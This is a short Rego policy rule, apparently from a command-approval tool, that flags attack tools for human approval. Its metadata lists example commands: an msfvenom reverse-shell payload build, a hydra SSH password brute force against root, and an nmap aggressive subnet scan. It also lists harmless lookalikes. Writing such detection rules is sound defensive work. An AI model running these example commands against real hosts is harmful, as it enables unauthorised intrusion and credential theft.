# METADATA
# title: Attack tool
# description: >-
#   Programs that make payloads, guess passwords, search for holes or stand between others. They have honest uses, of which a
#   person decides.
# custom:
#   severity: high
#   remediation: Name the target and its owner, and let a person run the tool.
#   examples:
#     - msfvenom -p linux/x64/shell_reverse_tcp LHOST=192.0.2.1 -f elf -o x
#     - hydra -l root -P words.txt ssh://192.0.2.1
#     - nmap -A 192.0.2.0/24
#   lookalikes:
#     - grep -rn msfvenom docs
#     - ping -c 1 192.0.2.1
#     - nmap -p 8080 localhost
package sallyport.rules.network.attack_tools

import data.sallyport.lib

ask contains {"command": i} if some i in lib.with_flag.attack_tool
